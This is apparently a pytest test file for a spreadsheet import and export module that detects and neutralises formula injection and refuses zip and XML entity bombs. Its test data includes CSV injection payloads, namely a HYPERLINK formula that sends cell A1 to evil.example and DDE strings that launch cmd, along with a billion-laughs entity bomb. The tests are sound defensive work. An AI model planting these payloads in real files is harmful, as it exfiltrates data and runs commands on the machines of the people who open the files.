"""secgov.tabular: CSV/XLSX reading with a row-by-row problem report, and injection-safe writing."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
import zlib
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.styles import Font
from openpyxl.worksheet.formula import ArrayFormula

from secgov import tabular
from secgov.tabular import (
    EXTRA_CELLS,
    FORMULA_CELL,
    FORMULA_TEXT,
    ROW,
    Limits,
    Row,
    TabularError,
    neutralise,
    read_table,
    write_csv,
    write_xlsx,
)

pytestmark = pytest.mark.nodb

COLUMNS = ("name", "sector", "level", "note")
REQUIRED = ("name", "sector")

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "+86 10 1234",
    "=cmd|' /C notepad'!'A1'",
    "-x",
    "+x",
]


def csv_bytes(text: str, encoding: str = "utf-8") -> bytes:
    return text.encode(encoding)


def xlsx_bytes(rows: list[list[object]], *, title: str = "Sheet") -> bytes:
    """A workbook written by openpyxl in normal mode: strings starting with "=" become real formulas."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def replace_member(data: bytes, name: str, content: bytes | None) -> bytes:
    """The same zip archive with one member replaced, added, or removed (content None)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename == name:
                if content is not None:
                    target.writestr(name, content)
            else:
                target.writestr(info, source.read(info))
        if name not in source.namelist() and content is not None:
            target.writestr(name, content)
    return out.getvalue()


def sheet_xml(rows_xml: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f"{rows_xml}</sheetData></worksheet>"
    ).encode()


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


HEADER_XML = f'<row r="1">{inline("A1", "name")}{inline("B1", "sector")}</row>'


# --- CSV --------------------------------------------------------------------------------------


def test_csv_happy_path_with_chinese_text():
    data = csv_bytes("Name,Sector,Level,Note\n城市大脑平台,政务,3,核心系统\n智慧交通,交通,2,\n")
    rows = read_table(data, "assets.csv", COLUMNS, REQUIRED)
    assert rows == [
        Row(2, {"name": "城市大脑平台", "sector": "政务", "level": "3", "note": "核心系统"}),
        Row(3, {"name": "智慧交通", "sector": "交通", "level": "2", "note": ""}),
    ]
    assert all(row.ok and row.problems == {} for row in rows)


def test_csv_with_bom_and_crlf():
    data = "\ufeffname,sector\r\n水务监控,水利\r\n".encode()
    rows = read_table(data, "x.CSV", COLUMNS, REQUIRED)
    assert [(row.number, row.values) for row in rows] == [
        (2, {"name": "水务监控", "sector": "水利", "level": "", "note": ""})
    ]


def test_csv_in_gb18030_as_written_by_chinese_excel():
    data = csv_bytes("name,sector,note\n电力调度系统,能源,等级保护第三级\n", "gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")  # the fallback is really exercised
    rows = read_table(data, "assets.csv", COLUMNS, REQUIRED)
    assert rows[0].values == {"name": "电力调度系统", "sector": "能源", "level": "", "note": "等级保护第三级"}


@pytest.mark.parametrize(
    "data",
    [
        b"name,sector\n\xff\xff\xff,x\n",  # neither UTF-8 nor GB18030
        "name,sector\na,b\n".encode("utf-16"),  # UTF-16 with BOM
        "name,sector\na,b\n".encode("utf-16-le"),  # UTF-16 without BOM: NUL bytes
    ],
)
def test_csv_in_another_encoding_is_refused(data):
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.csv", COLUMNS)
    assert caught.value.code == "encoding"
    assert "UTF-8" in caught.value.message


def test_csv_cells_are_stripped_and_optional_columns_default_to_empty():
    rows = read_table(b" NAME , sector \n  a  ,\t b\t\n", "a.csv", COLUMNS, REQUIRED)
    assert rows[0].values == {"name": "a", "sector": "b", "level": "", "note": ""}


def test_csv_row_numbers_count_records_and_empty_rows_are_skipped():
    data = b'name,sector,note\n\na,x,"two\nlines"\n,,\n  ,  \nb,y,z\n\n'
    rows = read_table(data, "a.csv", COLUMNS, REQUIRED)
    assert [(row.number, row.values["name"]) for row in rows] == [(3, "a"), (6, "b")]
    assert rows[0].values["note"] == "two\nlines"


def test_csv_short_rows_and_trailing_empty_cells_are_fine_but_stray_values_are_reported():
    data = b"name,sector,\na\nb,x,,,\nc,y,,oops\n"
    rows = read_table(data, "a.csv", COLUMNS)
    assert [row.values["name"] for row in rows] == ["a", "b", "c"]
    assert rows[0].values["sector"] == ""
    assert rows[0].problems == {} and rows[1].problems == {}
    assert rows[2].number == 4 and rows[2].problems == {ROW: EXTRA_CELLS}


def test_csv_with_old_mac_line_endings():
    """Lines ended by a carriage return alone: the header is the first of them, not the file."""
    text = "name,sector\r" + "".join(f"system {i},energy\r" for i in range(150))
    rows = read_table(csv_bytes(text), "a.csv", COLUMNS)
    assert len(rows) == 150 and rows[-1].values == {"name": "system 149", "sector": "energy", "level": "", "note": ""}


def test_csv_rows_far_wider_than_the_cell_limit_are_refused_before_they_are_split():
    data = csv_bytes("name,sector\r\na,b" + "," * 5_000 + "\r\n")
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.csv", COLUMNS, limits=Limits(max_cells=1_000))
    assert (caught.value.code, caught.value.reason, caught.value.detail) == ("too_large", "cells", {"limit": 1000})


def test_csv_oversized_cell_is_a_format_error():
    data = b"name,note\na," + b"x" * 200_000 + b"\n"
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.csv", COLUMNS)
    assert caught.value.code == "format"


# --- header -----------------------------------------------------------------------------------


@pytest.mark.parametrize("filename", ["a.csv", "a.xlsx"])
@pytest.mark.parametrize(
    ("header", "named", "word"),
    [
        (["name", "sector", "colour", "Owner"], ("colour", "owner"), "unknown"),
        (["name", "note"], ("sector",), "missing"),
        (["level", "note"], ("name", "sector"), "missing"),
        (["name", "sector", "Name "], ("name",), "duplicate"),
    ],
)
def test_bad_header_names_the_columns(filename, header, named, word):
    if filename.endswith(".csv"):
        data = (",".join(header) + "\n" + ",".join("v" for _ in header) + "\n").encode()
    else:
        data = xlsx_bytes([header, ["v"] * len(header)])
    with pytest.raises(TabularError) as caught:
        read_table(data, filename, COLUMNS, REQUIRED)
    error = caught.value
    assert error.code == "header"
    assert word in error.message
    assert error.columns == named
    for name in named:
        assert name in error.message


@pytest.mark.parametrize("data", [b"", b"\n\n", b"\xef\xbb\xbf", b",,,\nname,sector\n"])
def test_csv_without_a_header_row(data):
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.csv", COLUMNS)
    assert caught.value.code == "header"


def test_header_column_without_a_name_in_the_middle():
    with pytest.raises(TabularError) as caught:
        read_table(b"name,,sector\na,b,c\n", "a.csv", COLUMNS)
    assert caught.value.code == "header"
    assert "column 2" in caught.value.message


def test_caller_mistakes_are_value_errors():
    with pytest.raises(ValueError, match="lower-case"):
        read_table(b"name\n", "a.csv", ("Name",))
    with pytest.raises(ValueError, match="required"):
        read_table(b"name\n", "a.csv", ("name",), ("sector",))


# --- format and size --------------------------------------------------------------------------


@pytest.mark.parametrize("filename", ["assets.txt", "assets", "assets.xlsm", "assets.ods", "assets.csv.exe"])
def test_unsupported_extension(filename):
    with pytest.raises(TabularError) as caught:
        read_table(b"name\na\n", filename, COLUMNS)
    assert caught.value.code == "format"
    assert ".csv or .xlsx" in caught.value.message


def test_old_xls_is_refused_with_advice():
    with pytest.raises(TabularError) as caught:
        read_table(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "assets.xls", COLUMNS)
    assert caught.value.code == "format" and ".xlsx" in caught.value.message
    with pytest.raises(TabularError) as caught:
        read_table(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "renamed.xlsx", COLUMNS)
    assert caught.value.code == "format" and ".xls" in caught.value.message


def png_bytes() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def corrupted_xlsx() -> bytes:
    """A real workbook whose worksheet member has its compressed bytes scrambled."""
    good = xlsx_bytes([["name", "sector"], *[[f"asset {i}", "x" * 50] for i in range(200)]])
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    middle = start + info.compress_size // 2
    data = bytearray(good)
    data[middle : middle + 40] = bytes(b ^ 0x5A for b in data[middle : middle + 40])
    return bytes(data)


def zip_of(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"name,sector\na,b\n", id="csv"),
        pytest.param(png_bytes(), id="png"),
        pytest.param(bytes(range(256)) * 8, id="random"),
        pytest.param(b"", id="empty"),
        pytest.param(b"PK\x03\x04" + bytes(100), id="zip-signature-only"),
        pytest.param(zip_of({"hello.txt": b"hi"}), id="zip-not-xlsx"),
        pytest.param(zip_of({"[Content_Types].xml": b"<not xml"}), id="zip-bad-xml"),
        pytest.param(xlsx_bytes([["name"], ["a"]])[:-200], id="truncated"),
        pytest.param(corrupted_xlsx(), id="corrupted"),
    ],
)
def test_not_really_an_xlsx(data):
    with pytest.raises(TabularError) as caught:
        read_table(data, "upload.xlsx", COLUMNS)
    assert caught.value.code == "format"
    assert "XLSX" in caught.value.message


def test_worksheet_with_broken_xml_is_a_format_error():
    data = replace_member(xlsx_bytes([["name"], ["a"]]), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>")
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.xlsx", COLUMNS)
    assert caught.value.code == "format"


def test_xml_entity_expansion_is_refused():
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>'
    )
    data = replace_member(xlsx_bytes([["name"], ["a"]]), "xl/worksheets/sheet1.xml", bomb)
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.xlsx", COLUMNS)
    assert caught.value.code == "format"


def test_zip_bomb_is_refused_before_parsing(monkeypatch):
    monkeypatch.setattr(tabular.reading, "_MIN_EXPANDED_LIMIT", 1024 * 1024)
    data = replace_member(xlsx_bytes([["name"], ["a"]]), "xl/padding.xml", b" " * (12 * 1024 * 1024))
    assert len(data) < 100_000
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.xlsx", COLUMNS, max_bytes=1024 * 1024)
    assert caught.value.code == "too_large"


def test_a_renamed_shared_strings_part_is_still_counted():
    """openpyxl finds the shared strings by their content type, whatever the part's name: they
    are counted wherever they are."""
    texts = ["name", "sector", *[f"system {i}" for i in range(10)], "energy"]
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>' + "".join(
        f'<row r="{i + 2}"><c r="A{i + 2}" t="s"><v>{i + 2}</v></c><c r="B{i + 2}" t="s"><v>12</v></c></row>'
        for i in range(10)
    )
    strings = (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        + "".join(f"<si><t>{text}</t></si>" for text in texts)
        + "</sst>"
    ).encode()
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    data = xlsx_bytes([["name"]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        types = archive.read("[Content_Types].xml")
        links = archive.read("xl/_rels/workbook.xml.rels")
    override = f'<Override PartName="/xl/media/words.bin" ContentType="{main}.sharedStrings+xml" /></Types>'
    link = (
        '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" '
        'Target="media/words.bin" Id="rId9" /></Relationships>'
    )
    data = replace_member(data, "xl/worksheets/sheet1.xml", sheet_xml(cells))
    data = replace_member(data, "xl/media/words.bin", strings)
    data = replace_member(data, "[Content_Types].xml", types.replace(b"</Types>", override.encode()))
    data = replace_member(data, "xl/_rels/workbook.xml.rels", links.replace(b"</Relationships>", link.encode()))
    rows = read_table(data, "a.xlsx", COLUMNS)
    assert [(row.values["name"], row.values["sector"]) for row in rows][:2] == [
        ("system 0", "energy"),
        ("system 1", "energy"),
    ]
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.xlsx", COLUMNS, limits=Limits(max_strings=5))
    assert caught.value.reason == "strings"


def test_a_part_loaded_whole_may_not_expand_beyond_its_limit():
    """openpyxl parses the styles (and the workbook, its relationships...) in memory: a padded
    styles part is refused, while a worksheet as large is streamed and read."""
    data = xlsx_bytes([["name", "sector"], ["a", "b"]])
    padding = b" " * (17 * 1024 * 1024)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml")
        sheet = archive.read("xl/worksheets/sheet1.xml")
    padded = replace_member(data, "xl/styles.xml", styles.replace(b"</styleSheet>", padding + b"</styleSheet>"))
    assert len(padded) < 200_000
    with pytest.raises(TabularError) as caught:
        read_table(padded, "a.xlsx", COLUMNS)
    assert (caught.value.code, caught.value.reason) == ("too_large", "expanded")
    padded = replace_member(data, "xl/worksheets/sheet1.xml", sheet.replace(b"</sheetData>", padding + b"</sheetData>"))
    assert [row.values["name"] for row in read_table(padded, "a.xlsx", COLUMNS)] == ["a"]


def test_rows_beyond_the_spreadsheet_limit_are_refused():
    rows = HEADER_XML + f'<row r="2000000000">{inline("A2000000000", "far")}</row>'
    data = replace_member(xlsx_bytes([["name"]]), "xl/worksheets/sheet1.xml", sheet_xml(rows))
    with pytest.raises(TabularError) as caught:
        read_table(data, "a.xlsx", COLUMNS)
    assert caught.value.code == "format"


def test_a_dimension_that_lies_does_not_matter():
    rows = HEADER_XML + f'<row r="2">{inline("A2", "a")}{inline("B2", "b")}</row>'
    xml = sheet_xml(rows).replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    data = replace_member(xlsx_bytes([["name"]]), "xl/worksheets/sheet1.xml", xml)
    rows_read = read_table(data, "a.xlsx", COLUMNS)
    assert [(row.number, row.values["name"], row.values["sector"]) for row in rows_read] == [(2, "a", "b")]


def test_xlsx_stray_values_right_of_the_header_are_reported():
    rows = HEADER_XML + f'<row r="2">{inline("A2", "a")}{inline("D2", "stray")}</row>'
    rows += f'<row r="3">{inline("A3", "b")}{inline("XFD3", "far away")}</row>'
    data = replace_member(xlsx_bytes([["name"]]), "xl/worksheets/sheet1.xml", sheet_xml(rows))
    result = read_table(data, "a.xlsx", COLUMNS)
    assert result[0].problems == {ROW: EXTRA_CELLS}
    # Far beyond the header (more than 20 columns) is not even read.
    assert result[1].values["name"] == "b" and result[1].problems == {}


def out_of_range_date_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "note"])
    sheet["A2"], sheet["B2"] = "a", 1e10
    sheet["B2"].number_format = "yyyy-mm-dd"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


EMPTY_STYLESHEET = b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'


@pytest.mark.parametrize(
    ("data", "note"),
    [
        pytest.param(out_of_range_date_xlsx(), "#VALUE!", id="date-out-of-range"),
        pytest.param(
            replace_member(xlsx_bytes([["name", "note"], ["a", "b"]]), "xl/styles.xml", EMPTY_STYLESHEET),
            "b",
            id="no-stylesheet",
        ),
    ],
)
def test_openpyxl_warnings_do_not_escape(data, note):
    """openpyxl warns about such workbooks (pytest turns warnings into errors): they still load."""
    with pytest.warns(UserWarning):  # the files really make openpyxl warn
        workbook = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
        list(workbook.worksheets[0].iter_rows())
        workbook.close()
    rows = read_table(data, "a.xlsx", COLUMNS)
    assert rows[0].values["name"] == "a" and rows[0].values["note"] == note


@pytest.mark.parametrize("filename", ["a.csv", "a.xlsx"])
def test_too_large(filename):
    data = b"name\n" + b"a\n" * 600 if filename.endswith(".csv") else xlsx_bytes([["name"], *[["a"]] * 600])
    with pytest.raises(TabularError) as caught:
        read_table(data, filename, COLUMNS, max_bytes=len(data) - 1)
    assert caught.value.code == "too_large"
    assert len(read_table(data, filename, COLUMNS, max_bytes=len(data))) == 600


@pytest.mark.parametrize("filename", ["a.csv", "a.xlsx"])
def test_too_many_rows(filename):
    rows = [["name"], *[[f"asset {i}"] for i in range(11)]]
    data = ("\n".join(r[0] for r in rows) + "\n").encode() if filename.endswith(".csv") else xlsx_bytes(rows)
    with pytest.raises(TabularError) as caught:
        read_table(data, filename, COLUMNS, max_rows=10)
    assert caught.value.code == "too_many_rows"
    assert "10" in caught.value.message
    assert len(read_table(data, filename, COLUMNS, max_rows=11)) == 11


def test_empty_rows_do_not_count_towards_max_rows():
    data = b"name\n" + b"\n" * 50 + b"a\nb\n"
    assert [row.number for row in read_table(data, "a.csv", COLUMNS, max_rows=2)] == [52, 53]


# --- XLSX -------------------------------------------------------------------------------------


def test_xlsx_happy_path_with_chinese_text_and_typed_cells():
    data = xlsx_bytes(
        [
            ["Name", "SECTOR", "level", "note"],
            ["城市大脑平台", "政务", 3, dt.date(2024, 5, 1)],
            ["智慧交通", "交通", 2.0, True],
            ["供水", "水利", 2.5, dt.datetime(2024, 5, 1, 10, 30)],
            ["燃气", "能源", -7, None],
        ],
        title="资产",
    )
    rows = read_table(data, "资产清单.xlsx", COLUMNS, REQUIRED)
    assert [(row.number, row.values) for row in rows] == [
        (2, {"name": "城市大脑平台", "sector": "政务", "level": "3", "note": "2024-05-01"}),
        (3, {"name": "智慧交通", "sector": "交通", "level": "2", "note": "true"}),
        (4, {"name": "供水", "sector": "水利", "level": "2.5", "note": "2024-05-01T10:30:00"}),
        (5, {"name": "燃气", "sector": "能源", "level": "-7", "note": ""}),
    ]
    assert not any(row.problems for row in rows)


def test_xlsx_uses_the_first_worksheet():
    workbook = openpyxl.Workbook()
    workbook.active.append(["name"])
    workbook.active.append(["first"])
    other = workbook.create_sheet("other")
    other.append(["name"])
    other.append(["second"])
    out = io.BytesIO()
    workbook.save(out)
    assert [row.values["name"] for row in read_table(out.getvalue(), "a.xlsx", COLUMNS)] == ["first"]


def test_xlsx_empty_rows_are_skipped_but_numbering_kept():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["B1"] = "name", "sector"
    sheet["A2"] = "a"
    sheet["A3"] = "   "  # blank text only
    sheet["B4"].font = Font(bold=True)  # styled but empty
    sheet["A6"], sheet["B6"] = "b", "x"
    sheet["A9"] = "c"
    out = io.BytesIO()
    workbook.save(out)
    rows = read_table(out.getvalue(), "a.xlsx", COLUMNS)
    assert [(row.number, row.values["name"]) for row in rows] == [(2, "a"), (6, "b"), (9, "c")]


def test_xlsx_header_only_and_empty_sheet():
    assert read_table(xlsx_bytes([["name", "sector"]]), "a.xlsx", COLUMNS, REQUIRED) == []
    with pytest.raises(TabularError) as caught:
        read_table(xlsx_bytes([]), "a.xlsx", COLUMNS)
    assert caught.value.code == "header"


def test_xlsx_formula_cells_are_reported_per_row_not_evaluated():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "sector", "level", "note"])
    sheet.append(["ok", "x", 1, "fine"])
    sheet.append(['=HYPERLINK("http://evil.example","x")', "x", "=1+1", "fine"])
    sheet.append(["also ok", "x", 2, None])
    sheet["D5"] = '=cmd|" /C calc"!A0'
    sheet["A5"] = "with formula"
    sheet["B5"] = "y"
    sheet["C6"] = ArrayFormula("C6:C6", "=SUM(A1:A2)")
    sheet["A6"] = "array"
    out = io.BytesIO()
    workbook.save(out)
    # The file really holds formulas.
    check = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    assert check.active["C3"].data_type == "f"

    rows = read_table(out.getvalue(), "a.xlsx", COLUMNS)
    problems = {row.number: row.problems for row in rows}
    assert problems == {
        2: {},
        3: {"name": FORMULA_CELL, "level": FORMULA_CELL},
        4: {},
        5: {"note": FORMULA_CELL},
        6: {"level": FORMULA_CELL},
    }
    # The formula text is kept for the report, never a computed value.
    assert rows[1].values["level"] == "=1+1"
    assert rows[4].values["level"] == "=SUM(A1:A2)"


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_text_cells_that_look_like_formulas_are_reported(text):
    data = write_xlsx(("name", "note"), [["a", "plain"]])
    # Put the text in as an explicit text cell (no formula), the way another program could.
    xml = sheet_xml(
        f'<row r="1">{inline("A1", "name")}{inline("B1", "note")}</row>'
        f'<row r="2">{inline("A2", "a")}<c r="B2" t="str"><v>{text.replace("&", "&amp;").replace("<", "&lt;")}</v></c></row>'
    )
    data = replace_member(data, "xl/worksheets/sheet1.xml", xml)
    rows = read_table(data, "a.xlsx", COLUMNS)
    assert rows[0].values["note"] == text.strip()
    assert rows[0].problems == {"note": FORMULA_TEXT}


def test_xlsx_text_marked_as_text_by_excel_is_accepted():
    """Typing '=x in Excel stores "=x" with the quote-prefix style: that is text, not a formula."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["name", "note"])
    for row, text in enumerate(["+86 10 1234 5678", "=not a formula", "'=x"], start=2):
        sheet.cell(row, 1, "a")
        cell = sheet.cell(row, 2)
        cell.value = text
        cell.data_type = "s"
        cell.quotePrefix = True
    out = io.BytesIO()
    workbook.save(out)
    rows = read_table(out.getvalue(), "a.xlsx", COLUMNS)
    assert [row.values["note"] for row in rows] == ["+86 10 1234 5678", "=not a formula", "'=x"]
    assert not any(row.problems for row in rows)


# --- dangerous text in CSV --------------------------------------------------------------------


def test_csv_dangerous_text_is_reported_with_the_right_row_number():
    lines = ["name,sector,note", "ok,x,fine", ""]
    lines += [f'a{i},x,"{text.replace(chr(34), chr(34) * 2)}"' for i, text in enumerate(DANGEROUS)]
    lines += ["ok2,x,  =padded", "ok3,@who,fine"]
    rows = read_table(("\n".join(lines) + "\n").encode(), "a.csv", COLUMNS)
    assert rows[0].number == 2 and rows[0].problems == {}
    for offset, text in enumerate(DANGEROUS):
        row = rows[1 + offset]
        assert row.number == 4 + offset
        assert row.problems == {"note": FORMULA_TEXT}
        assert row.values["note"] == text  # kept for the report
    assert rows[-2].number == 4 + len(DANGEROUS) and rows[-2].problems == {"note": FORMULA_TEXT}
    assert rows[-1].problems == {"sector": FORMULA_TEXT}


@pytest.mark.parametrize(
    "text", ["-5", "+3.2", "-0.5", "-.5", "+7", "-1e5", "-2.5E-3", "-", "+", "5-3", "a=b", "中=文"]
)
def test_csv_numbers_and_harmless_text_are_accepted(text):
    rows = read_table(f"name,note\na,{text}\n".encode(), "a.csv", COLUMNS)
    assert rows[0].values["note"] == text
    assert rows[0].problems == {}


@pytest.mark.parametrize(
    ("cell", "value"),
    [("'=1+1", "=1+1"), ("'+86 10 1234", "+86 10 1234"), ("'-x", "-x"), ("'@SUM(1)", "@SUM(1)"), ("''=x", "'=x")],
)
def test_csv_neutralised_text_is_taken_literally(cell, value):
    rows = read_table(f"name,note\na,{cell}\n".encode(), "a.csv", COLUMNS)
    assert rows[0].values["note"] == value
    assert rows[0].problems == {}


def test_a_leading_quote_before_ordinary_text_is_kept():
    rows = read_table(b"name,note\na,'quoted'\n", "a.csv", COLUMNS)
    assert rows[0].values["note"] == "'quoted'"


# --- neutralise -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+x", "'+x"),
        ("-x", "'-x"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\t5", "'\t5"),
        (" =1+1", "' =1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-inf", "'-inf"),
        ("'=x", "''=x"),
        ("'-5", "''-5"),
        ("-5", "-5"),
        ("+3.2", "+3.2"),
        ("-1e5", "-1e5"),
        ("-", "-"),
        ("'quoted", "'quoted"),
        ("a=b", "a=b"),
        ("城市大脑", "城市大脑"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (-2.5, "-2.5"),
        (3.0, "3"),
        (0.1 + 0.2, "0.3"),
        (float("-inf"), "'-inf"),
        (10**20, "100000000000000000000"),
        (Decimal("-1.50"), "-1.50"),
        (True, "true"),
        (False, "false"),
        (dt.date(2024, 5, 1), "2024-05-01"),
        (dt.datetime(2024, 5, 1, 8, 0, tzinfo=dt.UTC), "2024-05-01T08:00:00+00:00"),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


# --- writing ----------------------------------------------------------------------------------

EXPORT_COLUMNS = ("name", "sector", "level", "note")
EXPORT_ROWS: list[list[object]] = [
    ["城市大脑平台", "政务", 3, '核心系统, "引号"\n第二行'],
    ['=HYPERLINK("http://evil.example","x")', "+86 10 1234", -5, "@SUM(1)"],
    ["-2+3+cmd|' /C calc'!A0", "'=already quoted", 2.5, "-"],
    ["#N/A", "'plain quote", True, dt.date(2024, 5, 1)],
    ["naive", "aware", dt.datetime(2024, 5, 1, 10, 30), dt.datetime(2024, 5, 1, 8, 0, tzinfo=dt.UTC)],
    ["big", "decimal", 12345678901234567890, Decimal("1.50")],
    ["none", None, None, ""],
]


@pytest.mark.parametrize(("writer", "filename"), [(write_csv, "export.csv"), (write_xlsx, "export.xlsx")])
def test_export_then_import_gives_back_the_original_texts(writer, filename):
    data = writer(EXPORT_COLUMNS, EXPORT_ROWS)
    rows = read_table(data, filename, EXPORT_COLUMNS)
    assert [row.number for row in rows] == list(range(2, 2 + len(EXPORT_ROWS)))
    assert all(row.problems == {} for row in rows)
    got = [row.values for row in rows]
    assert got[0]["note"] == '核心系统, "引号"\n第二行'
    assert got[1] == {"name": EXPORT_ROWS[1][0], "sector": "+86 10 1234", "level": "-5", "note": "@SUM(1)"}
    assert got[2] == {"name": "-2+3+cmd|' /C calc'!A0", "sector": "'=already quoted", "level": "2.5", "note": "-"}
    assert got[3] == {"name": "#N/A", "sector": "'plain quote", "level": "true", "note": "2024-05-01"}
    assert got[4]["level"] == "2024-05-01T10:30:00"
    assert got[4]["note"] == "2024-05-01T08:00:00+00:00"
    assert got[5]["level"] == "12345678901234567890"  # no precision lost to Excel's 15 digits
    assert got[5]["note"] == "1.50"
    assert got[6] == {"name": "none", "sector": "", "level": "", "note": ""}
    # Every cell comes back as the text the exporter started from.
    for row, original in zip(rows, EXPORT_ROWS, strict=True):
        for column, value in zip(EXPORT_COLUMNS, original, strict=True):
            assert row.values[column] == tabular.text_of(value).strip()


def test_write_csv_layout():
    data = write_csv(("name", "note"), [["城市", "=1+1"], ["a,b", None]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == 'name,note\r\n城市,\'=1+1\r\n"a,b",\r\n'


def test_writers_refuse_rows_of_the_wrong_width():
    with pytest.raises(ValueError, match="2 values for 3 columns"):
        write_csv(("a", "b", "c"), [[1, 2]])
    with pytest.raises(ValueError, match="2 values for 3 columns"):
        write_xlsx(("a", "b", "c"), [[1, 2, 3], [1, 2]])


def test_xlsx_writer_cleans_up_when_the_rows_fail():
    from openpyxl.worksheet import _writer

    before = list(_writer.ALL_TEMP_FILES)

    def rows():
        yield ["a", "b"]
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError, match="went away"):
        write_xlsx(("name", "note"), rows())
    assert _writer.ALL_TEMP_FILES == before


def test_xlsx_writer_never_produces_formula_cells():
    rows = [*EXPORT_ROWS, ["=1+1", "=SUM(A1:A2)", "#DIV/0!", "=x"]]
    data = write_xlsx(EXPORT_COLUMNS, rows, sheet_title="资产/清单: [export]*? with a very long title indeed")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet.title.startswith("资产_清单_ _export___")
    assert len(sheet.title) == 31
    types = {}
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", cell.coordinate
            assert not (isinstance(cell.value, str) and tabular.text.formula_like(cell.value)), cell.coordinate
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.coordinate
            types[cell.coordinate] = cell.data_type
    assert sheet["A1"].font.bold
    assert sheet["A3"].value == '\'=HYPERLINK("http://evil.example","x")'
    assert (types["C2"], types["C3"], types["C4"], types["C5"]) == ("n", "n", "n", "b")
    assert types["D5"] == "d" and sheet["D5"].value == dt.datetime(2024, 5, 1)
    assert sheet["A5"].value == "#N/A" and types["A5"] == "s"
    assert sheet["C9"].value == "#DIV/0!" and types["C9"] == "s"
    # Formulas are absent from the XML itself, not merely hidden by openpyxl.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        assert b"<f " not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_writer_copes_with_characters_xml_cannot_hold_and_long_text():
    data = write_xlsx(("name", "note"), [["bell\x07", "x" * 40_000]])
